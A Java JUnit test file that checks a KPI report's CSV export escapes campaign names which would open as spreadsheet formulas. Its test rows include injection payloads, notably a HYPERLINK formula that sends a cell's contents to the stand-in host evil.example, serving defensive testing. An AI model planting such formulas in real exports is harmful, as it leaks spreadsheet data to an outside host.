package io.leadflow.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

/** A KPI's CSV opens in a spreadsheet as the numbers and names it holds, never as formulas. */
class KpiCsvTest {

    static Map<String, Object> row(Object campaign, Object leads, Object rate) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("campaign", campaign);
        row.put("leads", leads);
        row.put("rate", rate);
        return row;
    }

    @Test
    void aNameAFormulaWouldStartWith_orStartAfterASeparator_isWrittenAsText_numbersStayNumbers() {
        KpiReport report = new KpiReport("closed-loop", Map.of(), Map.of(), List.of("campaign", "leads", "rate"), List.of(
                row("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", 3L, 0.5),
                row("@SUM(1+1)", 1L, -0.25),
                row("+49 30 1234567", 2L, null),
                row("-spring", 0L, 0.0),
                row("\tindented", 0L, 0.0),
                row("autumn = webinar", 4L, 1.0),
                row("spring;=1+1", 1L, 0.0),
                row("summer, @SUM(A1)", 1L, 0.0),
                row("10% off; free", 1L, 0.0)));

        assertThat(KpiController.csv(report).lines().toList()).containsExactly(
                "campaign,leads,rate",
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",3,0.5",
                "'@SUM(1+1),1,-0.25",
                "'+49 30 1234567,2,",
                "'-spring,0,0.0",
                "'\tindented,0,0.0",
                "autumn = webinar,4,1.0",
                "'spring;=1+1,1,0.0",
                "\"'summer, @SUM(A1)\",1,0.0",
                "10% off; free,1,0.0");
    }
}
